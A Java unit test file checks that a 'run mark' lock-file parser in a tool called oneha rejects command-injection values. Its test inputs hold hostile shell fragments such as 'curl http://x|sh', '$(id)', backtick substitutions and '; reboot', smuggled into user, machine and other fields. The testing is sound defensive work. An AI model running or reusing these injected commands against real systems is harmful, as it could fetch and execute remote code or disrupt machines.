package io.oneha.observe.host;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Instant;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What is in a mark becomes a command to type: only what a run can have written is taken. */
class RunMarkTest {
    private static final String RUN = "20261128-120000-aaaa";

    @ParameterizedTest
    @ValueSource(
            strings = {
                "run x`; curl http://x|sh; oneha apply --resume y\nuser erika\nmachine jump\nopen n1a2\n",
                "run 20261128-120000-aaaa; id\nuser erika\nmachine jump\nopen n1a2\n",
                "run 20261128-120000-aaaa\nuser erika; curl x|sh\nmachine jump\nopen n1a2\n",
                "run 20261128-120000-aaaa\nuser erika\nmachine jump` or `id\nopen n1a2\n",
                "run 20261128-120000-aaaa\nuser erika\nmachine jump\nopen n1a2; reboot\n",
                "run 20261128-120000-aaaa\nuser erika\nmachine jump\njoins $(id)\nopen n1a2\n"
            })
    void whatNoRunCanHaveWrittenIsAFileOfSomebodyElse(String text) {
        RunMark mark = RunMark.read(text.lines().toList()).orElseThrow();
        assertThat(mark.words()).isEqualTo("a file that no run of oneha wrote");
        assertThat(mark.resume())
                .isEqualTo("see what wrote /var/lib/oneha/lock on the front-ends; `sudo rm /var/lib/oneha/lock` lets"
                        + " runs begin");
        assertThat(mark.run() + mark.user() + mark.machine()).isEmpty();
        assertThat(mark.joins()).isEmpty();
        assertThat(mark.open()).isEmpty();
    }

    @Test
    void aJournalThatIsNoPathIsNotShown() {
        assertThat(RunMark.read(List.of("run " + RUN, "user erika", "machine jump", "journal `id`"))
                        .orElseThrow()
                        .words())
                .startsWith("run " + RUN + " of erika on jump (process 0) since")
                .doesNotContain("journal");
    }

    @Test
    void theServerThatARunHasStoppedIsReadBackAndOneWithAnOddNameMakesItNoMark() {
        RunMark.Work work = new RunMark.Work("n1a2", Instant.parse("2026-11-28T12:00:00Z"));
        RunMark mark = RunMark.read(List.of("run " + RUN, "user erika", "machine jump", "works n1a2"))
                .orElseThrow();
        assertThat(mark.works()).as("it says not since when").isEmpty();
        assertThat(RunMark.read(mark.with(Optional.of(work)).text().lines().toList())
                        .orElseThrow()
                        .works())
                .contains(work);
        assertThat(RunMark.read(List.of("run " + RUN, "user erika", "machine jump", "works $(id) " + work.since()))
                        .orElseThrow()
                        .run())
                .isEmpty();
    }

    @Test
    void theMarkOfAnAccountWithAnOddNameIsReadBack() {
        RunMark mark = new RunMark(
                RUN,
                "DOM\\erika müller",
                "jump",
                7,
                Instant.EPOCH,
                "/home/erika m/r.jsonl",
                RunMark.State.ENDED,
                List.of("n1a2", "n1a3"),
                List.of("n1a3"),
                Optional.empty());
        RunMark read = RunMark.read(mark.text().lines().toList()).orElseThrow();
        assertThat(read.resume()).isEqualTo("`oneha apply --resume " + RUN + "` as DOM\\erika_müller on jump");
        assertThat(read.joins()).containsExactly("n1a2", "n1a3");
        assertThat(read.open()).containsExactly("n1a3");
        assertThat(read.journal()).isEqualTo("/home/erika m/r.jsonl");
    }
}
